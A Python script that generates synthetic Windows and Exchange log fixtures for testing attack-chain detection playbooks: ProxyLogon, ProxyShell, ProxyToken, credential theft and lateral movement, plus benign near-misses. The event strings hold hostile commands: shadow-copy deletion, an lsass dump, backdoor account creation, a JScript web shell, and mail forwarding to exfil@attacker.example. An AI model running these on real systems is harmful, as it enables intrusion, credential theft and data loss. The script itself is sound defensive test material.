#!/usr/bin/env python3
"""Write the playbook fixtures under playbooks/fixtures/ (flat Windows JSON, one event a line).

Each fixture is a small, hand-shaped story for one playbook case: the positive chain, and the
near-misses that must not complete it (wrong order, outside the window, split across tenants,
benign look-alikes). The playbook files list them with the findings they must raise;
`chainwatch playbook test playbooks/` checks that. Deterministic: rerun after editing.
Usage: python3 scripts/gen-playbook-fixtures.py
"""
import json
import os
from datetime import datetime, timedelta, timezone

HERE = os.path.dirname(os.path.abspath(__file__))
ROOT = os.path.join(HERE, "..", "playbooks", "fixtures")
SYSMON = "Microsoft-Windows-Sysmon/Operational"
T0 = datetime(2026, 11, 2, 9, 0, 0, tzinfo=timezone.utc)
W3WP = "C:\\Windows\\System32\\inetsrv\\w3wp.exe"
CMD = "C:\\Windows\\System32\\cmd.exe"


def ts(t):
    return t.strftime("%Y-%m-%dT%H:%M:%S.") + f"{t.microsecond // 1000:03d}Z"


def at(seconds):
    return T0 + timedelta(seconds=seconds)


def base(t, host, channel, source, eid, extra):
    rec = {"@timestamp": ts(t), "Hostname": host, "Channel": channel, "SourceName": source, "EventID": eid}
    rec.update(extra)
    return rec


def proc(t, host, image, cmd, parent, user="NT AUTHORITY\\SYSTEM", **extra):
    return base(t, host, SYSMON, "Microsoft-Windows-Sysmon", 1, dict(
        Image=image, CommandLine=cmd, ParentImage=parent, ParentCommandLine=parent,
        User=user, ProcessId="4242", **extra))


def lsass(t, host, source, access):
    return base(t, host, SYSMON, "Microsoft-Windows-Sysmon", 10, dict(
        SourceImage=source, TargetImage="C:\\Windows\\system32\\lsass.exe", GrantedAccess=access,
        SourceProcessId="5150", TargetProcessId="704"))


def file_created(t, host, image, path):
    return base(t, host, SYSMON, "Microsoft-Windows-Sysmon", 11, dict(Image=image, TargetFilename=path))


def account(t, host, name, by, by_domain, eid=4720):
    return base(t, host, "Security", "Microsoft-Windows-Security-Auditing", eid, dict(
        TargetUserName=name, TargetDomainName=host.split(".")[0].upper(), SubjectUserName=by,
        SubjectDomainName=by_domain, SamAccountName=name))


def cmdlet(t, host, text):
    return base(t, host, "MSExchange Management", "MSExchange CmdletLogs", 1, dict(
        Message=f"Cmdlet suceeded. Cmdlet {text}."))


def noise(host, n, start=0):
    return [proc(at(start + i * 37), host, "C:\\Windows\\System32\\svchost.exe",
                 f"svchost.exe -k netsvcs -p -s Schedule {i}", "C:\\Windows\\System32\\services.exe")
            for i in range(n)]


def write(name, records):
    path = os.path.join(ROOT, name)
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "w", encoding="utf-8", newline="\n") as f:
        for r in records:
            f.write(json.dumps(r, separators=(",", ":")) + "\n")


# ------------------------------------------------------------------ exchange-to-ransomware
E1 = "EXCH01.acme.local"
shell = proc(at(0), E1, CMD, "cmd /c whoami", W3WP)
acct = account(at(150), E1, "svc_sync", "EXCH01$", "ACME")
dump = lsass(at(1200), E1, "C:\\Windows\\System32\\rundll32.exe", "0x1FFFFF")
wipe = proc(at(10800), E1, "C:\\Windows\\System32\\vssadmin.exe", "vssadmin.exe delete shadows /all /quiet", CMD, "EXCH01\\svc_sync")
# Arrival order scrambled within the allowed lateness (1 h): the dump arrives before the web
# shell and the account, as forwarded Security events often lag Sysmon.
write("exchange-to-ransomware/full-chain.jsonl", noise(E1, 10) + [dump, shell, acct] + noise("WS-01", 5, 100) + [wipe])
E2 = "EXCH02.acme.local"
write("exchange-to-ransomware/no-account.jsonl", [
    proc(at(0), E2, "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", "powershell -nop -w hidden", W3WP),
    lsass(at(600), E2, "C:\\Windows\\System32\\rundll32.exe", "0x1FFFFF"),
    proc(at(7200), E2, "C:\\Windows\\System32\\wbadmin.exe", "wbadmin delete catalog -quiet", CMD),
])
write("exchange-to-ransomware/web-shell-only.jsonl", noise(E1, 5) + [shell])
write("exchange-to-ransomware/web-shell-and-dump.jsonl", [shell, acct, dump])
write("exchange-to-ransomware/near-misses.jsonl", noise(E1, 5) + [
    proc(at(10), E1, "C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\csc.exe", "csc.exe /noconfig @x.cmdline", W3WP),
    lsass(at(20), E1, "C:\\Windows\\system32\\svchost.exe", "0x1000"),
    lsass(at(30), E1, "C:\\Windows\\system32\\rundll32.exe", "0x1400"),
    lsass(at(40), E1, "C:\\Windows\\system32\\wbem\\WmiPrvSE.exe", "0x1410"),
    proc(at(50), E1, "C:\\Windows\\System32\\vssadmin.exe", "vssadmin create shadow /for=C:", CMD, "ACME\\admin.kim"),
    account(at(60), E1, "a.nguyen", "admin.kim", "ACME"),
])
write("exchange-to-ransomware/out-of-order.jsonl", [
    lsass(at(0), E1, "C:\\Windows\\System32\\rundll32.exe", "0x1FFFFF"),
    proc(at(60), E1, "C:\\Windows\\System32\\vssadmin.exe", "vssadmin.exe delete shadows /all /quiet", CMD),
    proc(at(120), E1, CMD, "cmd /c whoami", W3WP),
])
DAY = 86400
write("exchange-to-ransomware/outside-window.jsonl", [
    shell,
    lsass(at(8 * DAY), E1, "C:\\Windows\\System32\\rundll32.exe", "0x1FFFFF"),
    proc(at(8 * DAY + 3600), E1, "C:\\Windows\\System32\\vssadmin.exe", "vssadmin.exe delete shadows /all /quiet", CMD),
])
write("exchange-to-ransomware/across-tenants.jsonl", [
    dict(shell, customer="alpha"),
    dict(acct, customer="beta"),
    dict(dump, customer="beta"),
    dict(wipe, customer="beta"),
])

# ------------------------------------------------------------------ proxylogon
M = "MXS01.azsentinel.local"
oab = cmdlet(at(0), M, 'Set-OabVirtualDirectory, parameters -ExternalUrl "http://ffff/#<script language="JScript" runat="server"> function Page_Load(){eval(Request["code"],"unsafe");}</script>" -Identity "OAB (Default Web Site)"')
write("proxylogon/exploit.jsonl", noise(M, 8) + [
    oab,
    file_created(at(0.7), M, "System", "C:\\Program Files\\Microsoft\\Exchange Server\\V15\\FrontEnd\\HttpProxy\\owa\\auth\\ohyeah.aspx"),
    cmdlet(at(1.8), M, 'Remove-OabVirtualDirectory, parameters -Force "True" -Identity "MXS01\\OAB (Default Web Site)"'),
    proc(at(2.4), M, CMD, "cmd /c whoami", W3WP),
    proc(at(2.5), M, "C:\\Windows\\System32\\whoami.exe", "whoami", CMD),
])
write("proxylogon/admin-change.jsonl", noise(M, 4) + [
    cmdlet(at(0), M, 'Set-OabVirtualDirectory, parameters -ExternalUrl "https://mail.contoso.com/OAB" -Identity "OAB (Default Web Site)"'),
])
write("proxylogon/cmdlet-only.jsonl", noise(M, 4) + [oab])

# ------------------------------------------------------------------ proxyshell
P = "EXCH03.globex.local"
export = cmdlet(at(60), P, 'New-MailboxExportRequest, parameters -Mailbox "administrator@globex.com" -IncludeFolders "#Drafts#" -ContentFilter "Subject -eq \'klj\'" -FilePath "\\\\127.0.0.1\\C$\\inetpub\\wwwroot\\aspnet_client\\axlog.aspx"')
role = cmdlet(at(0), P, 'New-ManagementRoleAssignment, parameters -Role "Mailbox Import Export" -User "administrator@globex.com"')
write("proxyshell/full.jsonl", noise(P, 6) + [
    role, export,
    proc(at(600), P, "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", "powershell -enc SQBFAFgA", W3WP),
    account(at(660), P, "DefaultAccount2", "EXCH03$", "GLOBEX"),
    account(at(661), P, "DefaultAccount2", "EXCH03$", "GLOBEX", eid=4732),
    lsass(at(900), P, "C:\\Windows\\System32\\rundll32.exe", "0x1FFFFF"),
])
write("proxyshell/export-only.jsonl", noise(P, 4) + [export])
write("proxyshell/pst-export.jsonl", noise(P, 4) + [
    role,
    cmdlet(at(60), P, 'New-MailboxExportRequest, parameters -Mailbox "j.doe@globex.com" -FilePath "\\\\fs01\\exports\\j.doe.pst"'),
])

# ------------------------------------------------------------------ credential theft after exploitation
A = "ACCT01.pandalab.com"
payload = "C:\\Users\\NORA~1.QUE\\AppData\\Local\\Temp\\RarSFX1\\winx64_payload.exe"
write("credential-theft-after-exploitation/campaign.jsonl", noise(A, 6) + [
    proc(at(0), A, "C:\\Users\\nora.quemona\\Downloads\\happy_image.jpeg.exe", "\"happy_image.jpeg.exe\"", "C:\\Windows\\explorer.exe", "PANDALAB\\nora.quemona"),
    proc(at(7), A, payload, "\"winx64_payload.exe\"", "C:\\Users\\nora.quemona\\Downloads\\happy_image.jpeg.exe", "PANDALAB\\nora.quemona"),
    proc(at(13), A, CMD, "C:\\Windows\\system32\\cmd.exe", payload, "PANDALAB\\nora.quemona"),
    proc(at(15), A, "C:\\Windows\\System32\\systeminfo.exe", "systeminfo", CMD, "PANDALAB\\nora.quemona"),
    proc(at(25), A, "C:\\Windows\\System32\\whoami.exe", "whoami", CMD, "PANDALAB\\nora.quemona"),
    proc(at(25.1), A, "C:\\Windows\\System32\\whoami.exe", "whoami /groups", CMD, "PANDALAB\\nora.quemona"),
    proc(at(181), A, "C:\\Program Files\\procdump.exe", "procdump -accepteula -ma lsass.exe C:\\Windows\\Temp\\lsass_dump.dmp", payload, "PANDALAB\\nora.quemona"),
    lsass(at(181.8), A, "C:\\Program Files\\procdump64.exe", "0x1fffff"),
])
write("credential-theft-after-exploitation/single-discovery.jsonl", [
    proc(at(0), A, "C:\\Windows\\System32\\whoami.exe", "whoami", CMD),
    lsass(at(60), A, "C:\\Program Files\\procdump64.exe", "0x1fffff"),
])
write("credential-theft-after-exploitation/benign-lsass.jsonl", [
    proc(at(0), A, "C:\\Windows\\System32\\whoami.exe", "whoami", CMD),
    proc(at(20), A, "C:\\Windows\\System32\\systeminfo.exe", "systeminfo", CMD),
    lsass(at(60), A, "C:\\Windows\\system32\\svchost.exe", "0x1000"),
    lsass(at(70), A, "C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18\\MsMpEng.exe", "0x1410"),
])

# ------------------------------------------------------------------ lateral movement creating accounts
W5, W6 = "WORKSTATION5.theshire.local", "WORKSTATION6.theshire.local"
PS = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"
WMIPRVSE = "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe"
write("lateral-movement-account-creation/wmic.jsonl", noise(W5, 4) + [
    proc(at(0), W5, "C:\\Windows\\System32\\wbem\\WMIC.exe", 'WMIC /node:WORKSTATION6 process call create "net user /add backdoor paw0rd1"', PS, "THESHIRE\\pgustavo"),
    proc(at(0.15), W6, "C:\\Windows\\System32\\net.exe", "net user /add backdoor paw0rd1", WMIPRVSE, "THESHIRE\\pgustavo"),
    account(at(1.3), W6, "backdoor", "pgustavo", "THESHIRE"),
])
write("lateral-movement-account-creation/local-admin.jsonl", noise(W6, 4) + [
    account(at(0), "SRV02.theshire.local", "svc_report", "admin.kim", "THESHIRE"),
])
write("lateral-movement-account-creation/other-user.jsonl", [
    proc(at(0), W5, "C:\\Windows\\System32\\wbem\\WMIC.exe", 'WMIC /node:WORKSTATION6 process call create "cmd /c ipconfig"', PS, "THESHIRE\\alice"),
    account(at(60), W6, "helpdesk2", "bob", "THESHIRE"),
])

# ------------------------------------------------------------------ ProxyToken
# IIS W3C logs of the Exchange front end (the columns IIS writes by default, plus the cookie)
# next to the MSExchange Management log. A fixture folder holds both; the replay reads each file
# in its own format.
X = "EXCH02.contoso.local"
W3C_FIELDS = ("date time s-computername s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username "
              "c-ip cs(User-Agent) cs(Cookie) sc-status sc-substatus sc-win32-status time-taken")
UA = "Mozilla/5.0+(Windows+NT+10.0;+Win64;+x64)"


def w3c(name, lines):
    path = os.path.join(ROOT, name)
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "w", encoding="utf-8", newline="\r\n") as f:
        f.write("#Software: Microsoft Internet Information Services 10.0\n")
        f.write(f"#Date: {T0.strftime('%Y-%m-%d %H:%M:%S')}\n")
        f.write(f"#Fields: {W3C_FIELDS}\n")
        for line in lines:
            f.write(line + "\n")


def request(t, method, stem, query="-", user="-", cookie="-", status=200, client="203.0.113.7", ua=UA):
    return " ".join([t.strftime("%Y-%m-%d"), t.strftime("%H:%M:%S"), "EXCH02", "10.0.4.12", method,
                     stem, query, "443", user, client, ua, cookie, str(status), "0", "0", "31"])


def web_noise(n, start=0):
    out = []
    for i in range(n):
        t = at(start + i * 7)
        out.append(request(t, "GET", "/owa/", user="CONTOSO\\jdoe", client="10.0.9.21"))
        out.append(request(t, "POST", "/ecp/RulesEditor/InboxRules.svc/GetList",
                           "msExchEcpCanary=Zq1", "CONTOSO\\jdoe", "msExchEcpCanary=Zq1;+X-OWA-JS=1",
                           client="10.0.9.21"))
    return out


TOKEN = "SecurityToken=x;+msExchEcpCanary=aNXh"
attack = request(at(120), "POST", "/ecp/victim@contoso.com/RulesEditor/InboxRules.svc/NewObject",
                 "msExchEcpCanary=aNXh", cookie=TOKEN, status=200, client="198.51.100.23",
                 ua="python-requests/2.26.0")
rule = cmdlet(at(121.4), X, "New-InboxRule, parameters -Mailbox \"contoso.com/Users/victim\" "
              "-Name \".\" -ForwardTo \"exfil@attacker.example\" -StopProcessingRules \"True\"")
w3c("proxytoken/exploit/u_ex261102.log", web_noise(8) + [attack])
write("proxytoken/exploit/exchange.jsonl", noise(X, 4) + [rule])
# An administrator sets forwarding in the Exchange shell; users edit their own rules in ECP.
w3c("proxytoken/admin-forwarding/u_ex261102.log", web_noise(8))
write("proxytoken/admin-forwarding/exchange.jsonl", noise(X, 4) + [
    cmdlet(at(200), X, "Set-Mailbox, parameters -Identity \"contoso.com/Users/ceo\" "
           "-ForwardingSmtpAddress \"smtp:assistant@contoso.com\""),
    cmdlet(at(260), X, "New-InboxRule, parameters -Mailbox \"contoso.com/Users/jdoe\" "
           "-Name \"Newsletters\" -MoveToFolder \"jdoe:\\Newsletters\""),
])
# The forged request alone: the server was probed, no rule was created (yet).
w3c("proxytoken/request-only/u_ex261102.log", web_noise(4) + [attack])
print("fixtures written under", os.path.relpath(ROOT))
